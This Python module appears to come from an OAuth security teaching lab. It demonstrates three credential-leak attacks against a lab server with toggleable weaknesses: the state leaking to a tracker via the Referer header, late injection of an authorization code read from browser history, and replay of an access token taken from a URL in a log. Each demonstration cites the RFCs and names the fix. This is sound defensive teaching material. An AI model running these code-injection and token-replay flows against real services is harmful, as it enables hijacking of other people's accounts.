"""Attack 6: credentials leaking out of URLs: the Referer header, old codes, tokens in URLs.

- Referer (RFC 9700 4.2.2, 4.2.4): the login page's URL holds the whole
  authorization request, `state` included. A link or third-party image on it
  sends that URL to another site in the Referer header, unless the page says
  `Referrer-Policy: no-referrer`. Whether a browser sends it is decided by the
  Referrer Policy algorithm (W3C Referrer Policy, "determine request's
  referrer"), written out in `referer_sent`. Lab switch: `referrer_leak`.
- Codes that die fast (RFC 6749 4.1.2: "A maximum authorization code lifetime
  of 10 minutes is RECOMMENDED"): a code found later in a browser history or a
  log (RFC 9700 4.3.1) is dead. Shown with the lab's clock, moved forward.
- Tokens never in URLs (RFC 9700 4.3.2: "Clients MUST NOT pass access tokens in
  a URI query parameter"): a server that refuses them keeps them out of logs and
  histories. Lab switch: `token_in_query`.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit, urlunsplit

import httpx

from ..client import OAuthResponseError, Page, json_object
from ..server.switches import SWITCHES
from ._steps import code_from, inject, params_of, sign_in, whose
from .registry import attack_on
from .result import AttackResult, Lesson, Unsupported
from .scenario import TargetLike, as_target, refused

TRACKER = "https://tracker.example/pixel.gif"  # a third party the login page links to
# The default policy of browsers before 2020 (Chrome 85, Firefox 87 moved to
# strict-origin-when-cross-origin); many embedded browsers still use it.
LEGACY_DEFAULT = "no-referrer-when-downgrade"
POLICIES = (
    "no-referrer",
    "no-referrer-when-downgrade",
    "same-origin",
    "origin",
    "strict-origin",
    "origin-when-cross-origin",
    "strict-origin-when-cross-origin",
    "unsafe-url",
)


def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc.rpartition('@')[2]}"


def effective_policy(header: str | None, default: str = LEGACY_DEFAULT) -> str:
    """The policy a browser applies: the last token it knows in the header, or its default.

    >>> effective_policy("unknown-thing, no-referrer")
    'no-referrer'
    """
    known = [p.strip().lower() for p in (header or "").split(",") if p.strip().lower() in POLICIES]
    return known[-1] if known else default


def referer_sent(document_url: str, policy: str, request_url: str) -> str | None:
    """The Referer a browser sends from a page to another URL, or None.

    >>> page = "https://as.example/authorize?client_id=a&state=s3cr3t"
    >>> referer_sent(page, "no-referrer-when-downgrade", "https://tracker.example/x.gif")
    'https://as.example/authorize?client_id=a&state=s3cr3t'
    >>> referer_sent(page, "strict-origin-when-cross-origin", "https://tracker.example/x.gif")
    'https://as.example/'
    >>> referer_sent(page, "no-referrer", "https://tracker.example/x.gif") is None
    True
    """
    parts = urlsplit(document_url)
    # the referrer never carries a fragment or user info
    host = parts.netloc.rpartition("@")[2]
    full = urlunsplit((parts.scheme, host, parts.path or "/", parts.query, ""))
    origin_only = _origin(document_url) + "/"
    same_origin = _origin(document_url) == _origin(request_url)
    downgrade = parts.scheme == "https" and urlsplit(request_url).scheme != "https"
    if policy == "no-referrer":
        return None
    if policy == "no-referrer-when-downgrade":
        return None if downgrade else full
    if policy == "same-origin":
        return full if same_origin else None
    if policy == "origin":
        return origin_only
    if policy == "strict-origin":
        return None if downgrade else origin_only
    if policy == "origin-when-cross-origin":
        return full if same_origin else origin_only
    if policy == "strict-origin-when-cross-origin":
        if same_origin:
            return full
        return None if downgrade else origin_only
    return full  # unsafe-url


_META_REFERRER = re.compile(
    r"<meta\s+[^>]*name=[\"']?referrer[\"']?[^>]*content=[\"']?([\w-]+)", re.IGNORECASE
)


def page_policy(page: Page) -> tuple[str | None, str]:
    """The Referrer-Policy a page sets, and how: its header, else `<meta name="referrer">`."""
    header = page.headers.get("referrer-policy")
    if header:
        return header, f"Referrer-Policy: {header}"
    meta = _META_REFERRER.search(page.text)
    if meta:
        return meta.group(1), f'<meta name="referrer" content="{meta.group(1)}">'
    return None, "no Referrer-Policy"


@attack_on("referrer_leak")
def referrer_leak(target: TargetLike, *, browser_default: str = LEGACY_DEFAULT) -> AttackResult:
    """The login page links to a third party: does its Referer carry the state?

    The page is the one the authorization request ends on, after the server's
    redirects: a server may move the request to a login page whose URL holds no
    state, and then the state stays out of any Referer whatever the policy.
    """
    t = as_target(target)
    app = t.register()
    with t.flow(app) as client:
        request = client.authorize()
        page = client.open_authorization_page()
    state = request.state or ""
    value, how = page_policy(page)
    policy = effective_policy(value, browser_default)
    referer = referer_sent(page.url, policy, TRACKER)
    leaked = referer is not None and bool(state) and state in referer
    seen = "; ".join(
        f"{p.method} {p.url.split('?')[0]} ({p.status}): {page_policy(p)[1]}"
        for p in (*page.hops, page)
    )
    moved = bool(page.hops) and state not in page.url
    sends = f"sends {'Referer: ' + referer if referer else 'no Referer'} to {TRACKER}"
    applies = policy if value else f"its default ({policy})"
    steps = [
        f"{t.victim.username} opens the authorization request; its URL holds state {state}",
        *([f"the server moves the request to {page.url}"] if page.hops else []),
        f"the {page.kind} page answers with {how}; the browser applies {applies}",
        f"the page loads an image from {TRACKER}; the browser {sends}",
    ]
    if leaked:
        what = (
            "The third party received the whole authorization request, state included: "
            "with it, the attacker can forge a callback that passes the client's state check "
            "(CSRF, section 3)."
        )
        reason = (
            f"The {page.kind} page {page.url.split('?')[0]} sent {how}, so a browser applying "
            f"{applies} {sends}, state included. Seen: {seen}."
        )
    elif value is None and moved:
        what = (
            "The third party learned nothing, but no thanks to a Referrer-Policy: no page sent "
            "one, and the state stayed out of the Referer only because the server moved the "
            "request to a URL without it."
        )
        reason = (
            f"No page sent a Referrer-Policy ({seen}); the state stayed out of the Referer "
            f"only because the server moved the request to {page.url}: a browser applying "
            f"{applies} still {sends}, only without the state."
        )
    elif value is None:
        what = (
            "The third party learned nothing, but no thanks to the server: no page sent a "
            "Referrer-Policy, and only this browser's own default kept the state out."
        )
        reason = (
            f"No page sent a Referrer-Policy ({seen}); only a browser applying {applies} "
            f"keeps the state out: it {sends}."
        )
    else:
        what = (
            "The third party learned nothing: the page's Referrer-Policy keeps its URL, and "
            "the state in it, out of the Referer header."
        )
        reason = (
            f"The {page.kind} page {page.url.split('?')[0]} sent {how}, so the browser {sends}"
            f"{', without the state' if referer else ''}. Seen: {seen}."
        )
    return AttackResult(
        "Leak through the Referer header",
        leaked,
        what,
        SWITCHES["referrer_leak"].source,
        "Referrer-Policy: no-referrer on the authorization server's pages and redirects.",
        tuple(steps),
        {
            "Referrer-Policy": how,
            "pages seen": seen,
            "Referer sent to the tracker": referer or "(none)",
        },
        reason,
    )


@attack_on(None, defence="codes that die within minutes: code_lifetime")
def late_code(target: TargetLike, *, delay: float = 600.0) -> AttackResult:
    """A code from the victim's browser history, injected `delay` seconds later.

    Needs a server whose clock the lab can move (a `LabServer`).
    """
    t = as_target(target)
    if t.advance is None:
        raise Unsupported("This attack moves the server's clock: run it on a LabServer.")
    app = t.register()
    with t.flow(app) as victim_session:
        request = victim_session.authorize(pkce=False)
        page = sign_in(victim_session.browser, request.url, t.victim)
        code = code_from(page, request.url)
    steps = [
        f"{t.victim.username}'s browser is sent to the callback with code {code}, but the "
        "client never redeems it (its tab was closed); the URL stays in the browser history",
        f"{delay / 60:g} minutes later, {t.attacker.username} reads the history on the "
        "shared computer",
    ]
    t.advance(delay)
    forged, outcome = inject(t, app, code, params_of(page.location).get("iss"), pkce=False)
    steps.append(
        f"she injects the code into her own session at the client (a client without "
        f"PKCE, so only the code's lifetime is in the way): {forged}"
    )
    if isinstance(outcome, OAuthResponseError):
        steps.append(f"the client redeems it: {refused(outcome)}")
        return LATE_CODE.result(
            False,
            "The code had expired before the attacker could use it, so the leak was "
            f"worth nothing. {outcome.error_description or outcome.error}",
            steps,
            {"token endpoint answered": refused(outcome)},
        )
    owner = whose(t, app, outcome)
    steps.append(f"the client redeems it; her session opens {owner}'s account")
    return LATE_CODE.result(
        True,
        f"A code {delay / 60:g} minutes old still worked: the attacker's session opens "
        f"{owner}'s account.",
        steps,
        {"account": owner},
    )


LATE_CODE = Lesson(
    "Late use of a leaked code",
    "RFC 6749 4.1.2, RFC 9700 4.3.1",
    "Codes expire within minutes (10 at most; WSO2 and this server: 5).",
)


@attack_on("token_in_query")
def token_in_url(target: TargetLike) -> AttackResult:
    """A careless client puts the access token in the URL; the URL ends up in a log."""
    t = as_target(target)
    if t.api_url is None:
        raise Unsupported("No API URL to send the token to.")
    app = t.register()
    with t.flow(app) as client:
        request = client.authorize()
        code_from(sign_in(client.browser, request.url, t.victim), request.url)
        client.receive_redirect()
        tokens = client.exchange_code()
    url = f"{t.api_url}?access_token={tokens.access_token}"
    access_log = [url]  # what proxies, servers and browser histories keep
    with t.http() as careless_client:
        first = careless_client.get(url)
        # the same token where RFC 6750 2.1 puts it: does the API take it at all?
        header = careless_client.get(
            t.api_url, headers={"Authorization": f"Bearer {tokens.access_token}"}
        )
    steps = [
        f"{t.victim.username}'s client calls the API the RFC 6750 2.3 way: GET {url}",
        f"the API answers {first.status_code}; the URL, token included, is in the access log",
    ]
    with t.http() as attacker:
        replay = attacker.get(access_log[0])
    steps.append(
        f"{t.attacker.username} reads the log and opens the same URL: {replay.status_code}"
    )
    succeeded = replay.is_success
    if not succeeded and not header.is_success:
        raise Unsupported(
            f"The API at {t.api_url} answered {header.status_code} even to the token in the "
            f"Authorization header (and {replay.status_code} to it in the URL), so whether it "
            "refuses tokens in URLs cannot be told: give the URL of an API this server's "
            "tokens open."
        )
    evidence: dict[str, object] = {
        "client's call": first.status_code,
        "attacker's replay": replay.status_code,
        "the token in the Authorization header": header.status_code,
    }
    if succeeded:
        body = replay.json()
        evidence["photos of"] = body.get("user") if isinstance(body, dict) else "?"
        what = (
            "The API took the token from the URL, so the URL itself is a key: anyone who "
            "reads a log, a history or a Referer with it gets the photos."
        )
        reason = (
            f"The API at {t.api_url} answered {replay.status_code} to the access token in the "
            "URL's query, so anyone who reads that URL in a log can use it."
        )
    else:
        said = _error_of(replay)
        evidence["error"] = said
        what = (
            "The API refused a token in the URL, so no client can work that way and no "
            "token ends up in logs or histories."
        )
        reason = (
            f"The API at {t.api_url} answered {replay.status_code}"
            f"{' (' + said + ')' if said else ''} to the access token in the URL's query, and "
            f"{header.status_code} to the same token in the Authorization header."
        )
    return AttackResult(
        "Access token in the URL",
        succeeded,
        what,
        SWITCHES["token_in_query"].source,
        "The API accepts bearer tokens only in the Authorization header.",
        tuple(steps),
        evidence,
        reason,
    )


def _error_of(response: httpx.Response) -> str:
    """The error_description of a JSON error, else the WWW-Authenticate challenge, else ''."""
    body = json_object(response) or {}
    said = body.get("error_description") or body.get("error")
    return str(said) if said else response.headers.get("www-authenticate", "")
